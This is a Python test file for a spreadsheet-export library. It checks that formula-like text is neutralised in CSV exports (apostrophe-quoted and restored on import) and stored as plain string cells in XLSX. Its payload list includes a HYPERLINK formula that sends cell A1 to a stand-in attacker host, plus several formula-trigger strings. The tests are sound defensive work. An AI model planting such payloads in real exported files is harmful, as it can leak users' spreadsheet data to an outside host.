"""Text in exports is never a formula: CSV quoting and its inverse, XLSX string cells."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest

from gongkai.core import csvfile, formulas

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by someone: quoted again, so it comes back as it was
    "''-2",
]
HARMLESS = ["张三", "", "13800000000", "2026-03-31", "a=b", " =1", "'", "'abc", "１＝１"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_quoted_and_comes_back(text: str) -> None:
    assert formulas.csv_escape(text) == "'" + text
    assert formulas.csv_unescape(formulas.csv_escape(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert formulas.csv_escape(text) == text
    assert formulas.csv_unescape(text) == text


@pytest.mark.parametrize("number", [-3, -2.5, 0, 7])
def test_numbers_we_computed_stay_numbers(number: float) -> None:
    assert formulas.csv_escape(number) == number
    book = openpyxl.Workbook()
    book.active.append(formulas.xlsx_row(book.active, [number]))
    assert _read_back(book)["A1"].data_type == "n"


def test_csv_file_round_trip() -> None:
    lines: list[list[Any]] = [["姓名", "数量"], *[[text, -1] for text in PAYLOADS + HARMLESS]]
    content = csvfile.write(lines)
    assert content.startswith(b"\xef\xbb\xbf")
    written = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row[0] for row in written[1:]] == [
        "'" + t if t in PAYLOADS else t for t in PAYLOADS + HARMLESS
    ]
    assert written[1][1] == "-1"  # a number, not text: not quoted
    assert list(csvfile.rows(content))[1:] == [[t, "-1"] for t in PAYLOADS + HARMLESS]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_a_string_cell(write_only: bool) -> None:
    book = openpyxl.Workbook(write_only=write_only)
    sheet = book.create_sheet("表")
    sheet.append(formulas.xlsx_row(sheet, PAYLOADS))
    if not write_only:
        formulas.xlsx_set(sheet.cell(row=2, column=1), PAYLOADS[0])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as package:
        xml = b"".join(
            package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")
        )
    assert b"<f>" not in xml and b"<f " not in xml
    found = openpyxl.load_workbook(buffer)["表"]
    assert [(c.data_type, c.value) for c in found[1]] == [("s", t) for t in PAYLOADS]
    if not write_only:
        assert (found["A2"].data_type, found["A2"].value) == ("s", PAYLOADS[0])


def _read_back(book: Any) -> Any:
    buffer = io.BytesIO()
    book.save(buffer)
    return openpyxl.load_workbook(buffer).active
